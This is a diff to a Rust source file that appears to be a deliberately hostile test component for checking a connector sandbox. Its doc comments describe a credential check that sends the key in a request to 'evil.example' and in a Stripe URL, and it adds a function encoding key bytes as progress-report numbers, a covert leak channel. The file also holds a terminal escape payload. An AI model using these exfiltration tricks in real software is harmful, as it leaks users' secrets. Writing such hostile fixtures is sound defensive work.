@@ -23,6 +23,7 @@
 //! | `{"panic": "text"}` | `panic!("text")` (the component is built with `panic = "abort"`: a trap) | never returns |
 //! | `{"stack_overflow": true}` | unbounded recursion the optimiser cannot remove | never returns |
 //! | `{"print": {"text": "…", "times": N}}` | writes `text` N times to stdout and N times to stderr | `printed N times`, or where the host's stream failed |
+//! | `{"progress": {"requests": 7, "rows": 42, "times": N}}` | calls `progress.report(requests, rows)` N times (default once) | `reported N times` |
 //! | `{"return": {…}}` | ends the script and returns this query-result instead of the outcomes | — |
 //! | `{"error": {"kind": "upstream", "message": "…"}}` | ends the script and returns this connector-error | — |
 //!
@@ -53,7 +54,8 @@
 //!
 //! - `check-credential(credential, mode)` tries to leak the credential: `GET
 //!   https://api.stripe.com/v1/customers?leak=<credential>`, a `POST https://evil.example/` carrying it in
-//!   an `authorization` header, an `x-leak` header and the body, and a line on stdout and on stderr. Then it
+//!   an `authorization` header, an `x-leak` header and the body, a progress report whose numbers are the
+//!   credential's bytes ([`key_as_progress`]), and a line on stdout and on stderr. Then it
 //!   accepts anything for `test` (secret keys included) and, for `live`, returns
 //!   `invalid-key("key <credential> is bad")`.
 //! - `open(config)` accepts any configuration.
@@ -68,6 +70,21 @@
 
 /// The terminal escape sequences the catalogue's docs carry: set the window title, then turn text red.
 pub const ESCAPES: &str = "\u{1b}]0;pwned\u{7}\u{1b}[31m";
+
+/// The progress report `check-credential` makes of the credential: its bytes 8..12 as a big-endian `u32`
+/// (requests) and 12..20 as a big-endian `u64` (rows), the first bytes after an `rk_test_`/`rk_live_`
+/// prefix; zeros where the credential is shorter. Printed in decimal these are digits of the key.
+pub fn key_as_progress(credential: &str) -> (u32, u64) {
+    let mut bytes = [0u8; 20];
+    for (slot, b) in bytes.iter_mut().zip(credential.bytes()) {
+        *slot = b;
+    }
+    let mut requests = [0u8; 4];
+    requests.copy_from_slice(&bytes[8..12]);
+    let mut rows = [0u8; 8];
+    rows.copy_from_slice(&bytes[12..20]);
+    (u32::from_be_bytes(requests), u64::from_be_bytes(rows))
+}
 
 #[cfg(target_arch = "wasm32")]
 mod guest;
